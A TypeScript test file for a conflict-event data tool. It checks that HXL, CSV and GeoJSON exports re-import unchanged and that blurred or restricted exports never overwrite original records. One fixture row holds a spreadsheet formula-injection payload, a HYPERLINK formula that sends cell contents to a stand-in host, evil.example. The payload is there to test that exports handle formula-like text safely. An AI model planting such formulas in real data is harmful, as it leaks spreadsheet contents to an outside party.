import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Papa from 'papaparse';
import { operations } from '../src/app/operations.ts';
import { runOperation } from '../src/app/run-operation.ts';
import type { Store } from '../src/store/store.ts';
import { DIALECTS } from './dialects.ts';
import { importFiles } from './import-files.ts';
import { sharedData } from './shared-data.ts';

/**
 * An HXL export brought back (the defect: its events came in a second time under source `hxl`,
 * without their civilian-targeting flags, event types, precision, ranges or targets). Tandem's own
 * export now reads back as the events it was written from: into the store that wrote it, every
 * event unchanged; into another store, the same events with the same content hash.
 */

const GOOD = new URL('./fixtures/good/', import.meta.url).pathname;
const ADMIN = { name: 'test', roles: ['admin'] };

// ACLED rows with what a round trip can lose: formula-like text, an apostrophe already before a
// formula character, quotes, commas, line breaks, accents, targets, week precision, geo precision 3.
const ACLED_HEADER = [
  'event_id_cnty',
  'event_date',
  'time_precision',
  'event_type',
  'sub_event_type',
  'actor1',
  'assoc_actor_1',
  'inter1',
  'actor2',
  'assoc_actor_2',
  'inter2',
  'civilian_targeting',
  'country',
  'admin1',
  'admin2',
  'location',
  'latitude',
  'longitude',
  'geo_precision',
  'source',
  'notes',
  'fatalities',
];
const ACLED_ROWS = [
  [
    'RTT1',
    '2023-06-02',
    '2',
    'Violence against civilians',
    'Attack',
    '-Unidentified Armed Group (Testland)',
    '',
    'Political militia',
    'Civilians (Testland)',
    'Women (Testland); Children (Testland)',
    'Civilians',
    'Civilian targeting',
    'Testland',
    '@Séguéla',
    '+Plus District',
    'Kodro – "Old" Market, East',
    '-4.125',
    '-12.5',
    '3',
    "'=not a formula",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")\nsecond line, with a comma\r\nthird',
    '0',
  ],
  [
    'RTT2',
    '2023-06-03',
    '1',
    'Battles',
    'Armed clash',
    'Military Forces of Testland (2019-)',
    '',
    'State forces',
    'Testland Liberation Front',
    '',
    'Rebel group',
    '',
    'Testland',
    'Lakeside',
    '',
    'Port Lake',
    '',
    '',
    '',
    'Radio Lake',
    'Clash near the port.',
    '12',
  ],
];

/** Every stored column of every event but the row id and the import it came with, in one order. */
async function storedEvents(store: Store): Promise<Record<string, unknown>[]> {
  const rows = await store.db
    .selectFrom('events')
    .selectAll()
    .orderBy('source')
    .orderBy('source_event_id')
    .execute();
  return rows.map(({ id: _id, import_id: _import, ...rest }) => rest);
}

async function exportAs(
  store: Store,
  format: 'hxl' | 'csv',
  blurKm?: number,
  requester: { name: string; roles: string[] } = ADMIN,
): Promise<string> {
  let text = '';
  await runOperation(
    operations.exportEvents,
    { format, ...(blurKm ? { blurKm } : {}), write: (s: string) => (text += s) },
    { via: 'cli', name: 'exportEvents', requester, store },
  );
  return text;
}

const exportHxl = (store: Store, blurKm?: number) => exportAs(store, 'hxl', blurKm);

async function problemsOf(store: Store, file: string) {
  return store.db
    .selectFrom('problems')
    .select(['line', 'column', 'field', 'reason'])
    .where('file', '=', file)
    .orderBy('line')
    .execute();
}

for (const dialect of DIALECTS) {
  describe(`an HXL export brought back (${dialect.name})`, { skip: dialect.skip }, () => {
    let store: Store;
    let drop: () => Promise<void>;
    const dir = mkdtempSync(join(tmpdir(), 'tandem-hxl-round-trip-'));
    let exported = '';
    let original: Record<string, unknown>[] = [];
    const write = (name: string, text: string) => {
      const path = join(dir, name);
      writeFileSync(path, text);
      return path;
    };

    before(async () => {
      ({ store, drop } = await dialect.open());
      const tricky = write('acled-tricky.csv', `${Papa.unparse([ACLED_HEADER, ...ACLED_ROWS])}\n`);
      const sources = ['acled-old-format.csv', 'acled-new-format.csv', 'ged-small.csv'].map((f) =>
        join(GOOD, f),
      );
      const r = await importFiles(store, [...sources, tricky]);
      assert.equal(
        r.files.reduce((n, f) => n + f.rejected, 0),
        0,
      );
      original = await storedEvents(store);
      exported = await exportHxl(store);
    });
    after(async () => {
      await drop();
      rmSync(dir, { recursive: true, force: true });
    });

    test('into the store that wrote it: every event unchanged, under its own source and id', async () => {
      const path = write('export.hxl.csv', exported);
      const r = await importFiles(store, [path]);
      const { format, rows, imported, updated, unchanged, rejected } = r.files[0]!;
      assert.deepEqual(
        { format, rows, imported, updated, unchanged, rejected },
        {
          format: 'hxl',
          rows: original.length,
          imported: 0,
          updated: 0,
          unchanged: original.length,
          rejected: 0,
        },
      );
      assert.deepEqual(await storedEvents(store), original);
    });

    test('an export for Excel starts with a byte-order mark and still comes back unchanged; GeoJSON is refused', async () => {
      for (const format of ['csv', 'hxl'] as const) {
        let text = '';
        await runOperation(
          operations.exportEvents,
          { format, excel: true, write: (s: string) => (text += s) },
          { via: 'cli', name: 'exportEvents', requester: ADMIN, store },
        );
        assert.ok(text.startsWith('\ufeffsource,'), `${format}: ${JSON.stringify(text.slice(0, 12))}`);
        const r = await importFiles(store, [write(`excel.${format}.csv`, text)]);
        assert.equal(r.files[0]!.unchanged, original.length, format);
      }
      await assert.rejects(
        runOperation(
          operations.exportEvents,
          { format: 'geojson', excel: true, write: () => {} },
          { via: 'cli', name: 'exportEvents', requester: ADMIN, store },
        ),
        /an export for Excel .* is CSV or HXL/,
      );
      assert.deepEqual(await storedEvents(store), original);
    });

    test('into another store: the same events, every field and the content hash as the original import', async () => {
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [write('to-another.hxl.csv', exported)]);
        assert.equal(r.files[0]!.imported, original.length);
        const back = await storedEvents(other.store);
        assert.deepEqual(back, original);
        const tricky = back.find((e) => e.source_event_id === 'RTT1')!;
        assert.equal(tricky.source, 'acled');
        assert.equal(tricky.notes, ACLED_ROWS[0]![20]);
        assert.equal(tricky.source_text, "'=not a formula");
        assert.equal(tricky.targets, 'Women (Testland); Children (Testland)');
        assert.equal(tricky.date_precision, 'week');
        assert.equal(tricky.event_type, 'Violence against civilians');
        const derived = back.filter((e) => e.civilian_targeting_derived === 1).map((e) => e.source_event_id);
        assert.ok(
          derived.includes('TST1'),
          'the old ACLED export derived its civilian targeting, and says so',
        );
      } finally {
        await other.drop();
      }
    });

    test('a GeoJSON export comes back too: unchanged into its own store, whole into another', async () => {
      let text = '';
      await runOperation(
        operations.exportEvents,
        { format: 'geojson', write: (s: string) => (text += s) },
        { via: 'cli', name: 'exportEvents', requester: ADMIN, store },
      );
      const path = write('export.geojson', text);
      const same = await importFiles(store, [path]);
      assert.deepEqual(
        [same.files[0]!.unchanged, same.files[0]!.imported, same.files[0]!.rejected],
        [original.length, 0, 0],
      );
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [path]);
        assert.equal(r.files[0]!.imported, original.length);
        assert.deepEqual(await storedEvents(other.store), original);
      } finally {
        await other.drop();
      }
    });

    test('a Tandem export from before these columns is read as a partner sheet, as it always was', async () => {
      const [header, tags, ...rows] = Papa.parse<string[]>(exported.trim(), { newline: '\r\n' }).data;
      const older = [header!, tags!, ...rows].map((row) => row.slice(0, tags!.indexOf('#meta+source') + 1));
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [write('older.hxl.csv', `${Papa.unparse(older)}\r\n`)]);
        assert.equal(r.files[0]!.imported, original.length);
        const sources = new Set((await storedEvents(other.store)).map((e) => e.source));
        assert.deepEqual([...sources], ['hxl']);
      } finally {
        await other.drop();
      }
    });

    test('a blurred export never overwrites the events it stands for: it comes in as a partner record', async () => {
      const path = write('blurred.hxl.csv', await exportHxl(store, 30));
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [path]);
        assert.equal(r.files[0]!.imported, original.length);
        const ids = (await storedEvents(other.store)).map((e) => `${e.source} ${e.source_event_id}`);
        assert.ok(ids.includes('hxl acled:RTT1') && ids.includes('hxl ucdp:900001'), ids.join(', '));
      } finally {
        await other.drop();
      }
      const before = await storedEvents(store);
      await importFiles(store, [path]);
      const acled = (await storedEvents(store)).filter((e) => e.source !== 'hxl');
      assert.deepEqual(acled, before, 'the precise events stay as they were');
    });

    test("records exported as counts (beyond the exporter's reach) never overwrite the records either", async () => {
      const other = await dialect.open();
      try {
        const tricky = write('restricted.csv', `${Papa.unparse([ACLED_HEADER, ...ACLED_ROWS])}\n`);
        await importFiles(other.store, [tricky], { sensitivity: 'restricted' });
        const before = await storedEvents(other.store);
        let text = '';
        await runOperation(
          operations.exportEvents,
          { format: 'hxl', write: (s: string) => (text += s) },
          {
            via: 'cli',
            name: 'exportEvents',
            requester: { name: 'viewer', roles: ['viewer'] },
            store: other.store,
          },
        );
        const [, tags, ...rows] = Papa.parse<string[]>(text.trim(), { newline: '\r\n' }).data;
        assert.deepEqual(
          rows.map((r) => r[tags!.indexOf('#meta+release')]),
          ['counts', 'counts'],
        );
        const r = await importFiles(other.store, [write('counts.hxl.csv', text)]);
        assert.equal(r.files[0]!.imported, 2);
        const after = await storedEvents(other.store);
        assert.deepEqual(
          after.filter((e) => e.source === 'acled'),
          before,
        );
        assert.deepEqual(
          after.filter((e) => e.source === 'hxl').map((e) => [e.source_event_id, e.notes]),
          [
            ['acled:RTT1', '[withheld: above your clearance or need-to-know]'],
            ['acled:RTT2', '[withheld: above your clearance or need-to-know]'],
          ],
        );
      } finally {
        await other.drop();
      }
    });

    test("bad cells in Tandem's own export are set aside with line, column and reason", async () => {
      const [header, tags, first] = Papa.parse<string[]>(exported.trim(), { newline: '\r\n' }).data;
      const at = (tag: string) => tags!.indexOf(tag);
      const edit = (changes: Record<string, string>, id: string) => {
        const row = [...first!];
        row[at('#event+id')] = id;
        for (const [tag, value] of Object.entries(changes)) row[at(tag)] = value;
        return row;
      };
      const rows = [
        edit({ '#affected+killed': '' }, 'BAD1'),
        edit({ '#indicator+civilian_targeting': 'yes' }, 'BAD2'),
        edit({ '#meta+release': 'partly' }, 'BAD3'),
        edit({ '#meta+dataset': 'mission' }, '7'),
        edit({ '#date+end': '2001-01-01' }, 'BAD5'),
      ];
      const path = write('bad.hxl.csv', `${Papa.unparse([header!, tags!, ...rows])}\r\n`);
      const r = await importFiles(store, [path]);
      assert.equal(r.files[0]!.rejected, rows.length);
      const col = (tag: string) => ({ column: at(tag) + 1, field: tag });
      const problems = await problemsOf(store, path);
      assert.deepEqual(
        problems.map(({ line, column, field }) => ({ line, column, field })),
        [
          { line: 3, ...col('#affected+killed') },
          { line: 4, ...col('#indicator+civilian_targeting') },
          { line: 5, ...col('#meta+release') },
          { line: 6, ...col('#meta+dataset') },
          { line: 7, ...col('#date+end') },
        ],
      );
      const reasons = problems.map((p) => p.reason);
      assert.match(reasons[0]!, /fatalities is empty; expected a whole number of 0 or more/);
      assert.match(reasons[1]!, /civilian_targeting "yes" is not 1 or 0/);
      assert.match(reasons[2]!, /release "partly" is not one Tandem writes \(whole, counts, blurred\)/);
      assert.match(reasons[3]!, /incident of the mission's own \(incident 7\).*write hxl in this column/);
      assert.match(reasons[4]!, /the last day 2001-01-01 is before the first/);
    });

    test('a partner sheet: an empty #affected+killed is set aside, as an empty ACLED fatalities is; no such column counts none', async () => {
      const text = readFileSync(join(GOOD, 'hxl-partner.csv'), 'utf8').replace(',6,1,Clash', ',,1,Clash');
      const path = write('partner-empty-killed.csv', text);
      const r = await importFiles(store, [path]);
      assert.equal(r.files[0]!.imported, 1);
      const [problem] = await problemsOf(store, path);
      assert.deepEqual(
        { ...problem },
        {
          line: 4,
          column: 11,
          field: '#affected+killed',
          reason: 'fatalities is empty; expected a whole number of 0 or more',
        },
      );
      const noColumn = write(
        'no-killed.csv',
        '#date,#country+name,#adm1+name,#event+type\n2022-04-01,Testland,Lakeside,Riots\n',
      );
      assert.equal((await importFiles(store, [noColumn])).files[0]!.imported, 1);
    });
  });
}

/**
 * The plain CSV export brought back (the defect: "not a known event format", exit 2). It is the
 * HXL export without the hashtag row, known by its column names and read by the same reader.
 */
for (const dialect of DIALECTS) {
  describe(`a plain CSV export brought back (${dialect.name})`, { skip: dialect.skip }, () => {
    let store: Store;
    let drop: () => Promise<void>;
    const dir = mkdtempSync(join(tmpdir(), 'tandem-csv-round-trip-'));
    let exported = '';
    let original: Record<string, unknown>[] = [];
    const write = (name: string, text: string) => {
      const path = join(dir, name);
      writeFileSync(path, text);
      return path;
    };
    const parse = (text: string) => Papa.parse<string[]>(text.trim(), { newline: '\r\n' }).data;

    before(async () => {
      ({ store, drop } = await dialect.open());
      const tricky = write('acled-tricky.csv', `${Papa.unparse([ACLED_HEADER, ...ACLED_ROWS])}\n`);
      const sources = ['acled-old-format.csv', 'acled-new-format.csv', 'ged-small.csv'].map((f) =>
        join(GOOD, f),
      );
      await importFiles(store, [...sources, tricky]);
      original = await storedEvents(store);
      exported = await exportAs(store, 'csv');
      // Exports run oldest first: the first record is the sample's oldest event, a GED one.
      assert.equal(parse(exported)[1]![0], 'ucdp', 'no hashtag row: the first record follows the header');
    });
    after(async () => {
      await drop();
      rmSync(dir, { recursive: true, force: true });
    });

    test('into the store that wrote it: every event unchanged, no duplicates', async () => {
      const r = await importFiles(store, [write('export.csv', exported)]);
      const { format, rows, imported, updated, unchanged, rejected } = r.files[0]!;
      assert.deepEqual(
        { format, rows, imported, updated, unchanged, rejected },
        {
          format: 'hxl',
          rows: original.length,
          imported: 0,
          updated: 0,
          unchanged: original.length,
          rejected: 0,
        },
      );
      assert.deepEqual(await storedEvents(store), original);
    });

    test('into another store: the same events, every field and the content hash as the original import', async () => {
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [write('to-another.csv', exported)]);
        assert.equal(r.files[0]!.imported, original.length);
        const back = await storedEvents(other.store);
        assert.deepEqual(back, original);
        const tricky = back.find((e) => e.source_event_id === 'RTT1')!;
        assert.equal(tricky.notes, ACLED_ROWS[0]![20]);
        assert.equal(tricky.source_text, "'=not a formula");
      } finally {
        await other.drop();
      }
    });

    test('columns in another order, names in capitals, a column of its own added: still the same events', async () => {
      const [header, ...rows] = parse(exported);
      const order = header!.map((_, i) => i).reverse();
      const shuffled = [
        [...order.map((i) => header![i]!.toUpperCase()), 'analyst comment'],
        ...rows.map((row) => [...order.map((i) => row[i]!), 'checked']),
      ];
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [write('shuffled.csv', `${Papa.unparse(shuffled)}\r\n`)]);
        assert.equal(r.files[0]!.rejected, 0);
        assert.deepEqual(await storedEvents(other.store), original);
      } finally {
        await other.drop();
      }
    });

    test('a CSV export from before the later columns is read as a partner sheet, as the HXL one is', async () => {
      const [header, ...rows] = parse(exported);
      const cut = header!.indexOf('source_text') + 1;
      const older = [header!, ...rows].map((row) => row.slice(0, cut));
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [write('older.csv', `${Papa.unparse(older)}\r\n`)]);
        assert.equal(r.files[0]!.imported, original.length);
        const sources = new Set((await storedEvents(other.store)).map((e) => e.source));
        assert.deepEqual([...sources], ['hxl']);
      } finally {
        await other.drop();
      }
    });

    test('a blurred CSV export never overwrites the events it stands for: it comes in as a partner record', async () => {
      const path = write('blurred.csv', await exportAs(store, 'csv', 30));
      const other = await dialect.open();
      try {
        const r = await importFiles(other.store, [path]);
        assert.equal(r.files[0]!.imported, original.length);
        const ids = (await storedEvents(other.store)).map((e) => `${e.source} ${e.source_event_id}`);
        assert.ok(ids.includes('hxl acled:RTT1') && ids.includes('hxl ucdp:900001'), ids.join(', '));
      } finally {
        await other.drop();
      }
      const before = await storedEvents(store);
      await importFiles(store, [path]);
      const precise = (await storedEvents(store)).filter((e) => e.source !== 'hxl');
      assert.deepEqual(precise, before, 'the precise events stay as they were');
    });

    test("records exported as counts (beyond the exporter's reach) never overwrite the records", async () => {
      const other = await dialect.open();
      try {
        const tricky = write('restricted.csv', `${Papa.unparse([ACLED_HEADER, ...ACLED_ROWS])}\n`);
        await importFiles(other.store, [tricky], { sensitivity: 'restricted' });
        const before = await storedEvents(other.store);
        const text = await exportAs(other.store, 'csv', undefined, { name: 'viewer', roles: ['viewer'] });
        const r = await importFiles(other.store, [write('counts.csv', text)]);
        assert.equal(r.files[0]!.imported, 2);
        const after = await storedEvents(other.store);
        assert.deepEqual(
          after.filter((e) => e.source === 'acled'),
          before,
        );
        assert.deepEqual(
          after.filter((e) => e.source === 'hxl').map((e) => e.source_event_id),
          ['acled:RTT1', 'acled:RTT2'],
        );
      } finally {
        await other.drop();
      }
    });

    test('bad cells are set aside with line, column and the column name', async () => {
      const [header, first] = parse(exported);
      const at = (name: string) => header!.indexOf(name);
      const row = [...first!];
      row[at('source_event_id')] = 'BAD1';
      row[at('fatalities')] = '';
      const path = write('bad.csv', `${Papa.unparse([header!, row])}\r\n`);
      const r = await importFiles(store, [path]);
      assert.equal(r.files[0]!.rejected, 1);
      assert.deepEqual(await problemsOf(store, path), [
        {
          line: 2,
          column: at('fatalities') + 1,
          field: 'fatalities',
          reason: 'fatalities is empty; expected a whole number of 0 or more',
        },
      ]);
    });
  });
}

const ged = sharedData('ucdp-ged/GEDEvent_v23_1_CAR.csv');

for (const dialect of DIALECTS) {
  describe(`an export of events whose categories the register filled, brought back (${dialect.name})`, {
    skip: dialect.skip || ged.skip,
  }, () => {
    test('is unchanged, and so is the source file after it; a changed value is still a change (probe)', async () => {
      const { store, drop } = await dialect.open();
      const dir = mkdtempSync(join(tmpdir(), 'tandem-register-round-trip-'));
      try {
        await importFiles(store, [ged.path]);
        const filled = await store.db
          .selectFrom('events')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .where('actor1_category', 'is not', null)
          .executeTakeFirstOrThrow();
        assert.ok(Number(filled.n) > 1000, 'the register gave GED actors their categories');
        const exported = join(dir, 'export.csv');
        writeFileSync(exported, await exportAs(store, 'csv'));
        const counts = async (path: string) => {
          const f = (await importFiles(store, [path])).files[0]!;
          return [f.imported, f.updated, f.unchanged];
        };
        assert.deepEqual(await counts(exported), [0, 0, 1848], 'the export brought back');
        assert.deepEqual(await counts(ged.path), [0, 0, 1848], 'the source file after it');
        const rows = Papa.parse<Record<string, string>>(readFileSync(exported, 'utf8'), {
          header: true,
          skipEmptyLines: true,
        });
        rows.data[0]!.fatalities = String(Number(rows.data[0]!.fatalities) + 1);
        const changed = join(dir, 'changed.csv');
        writeFileSync(changed, Papa.unparse(rows.data, { columns: rows.meta.fields }));
        assert.deepEqual(await counts(changed), [0, 1, 1847], 'one death more is a change');
      } finally {
        await drop();
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });
}
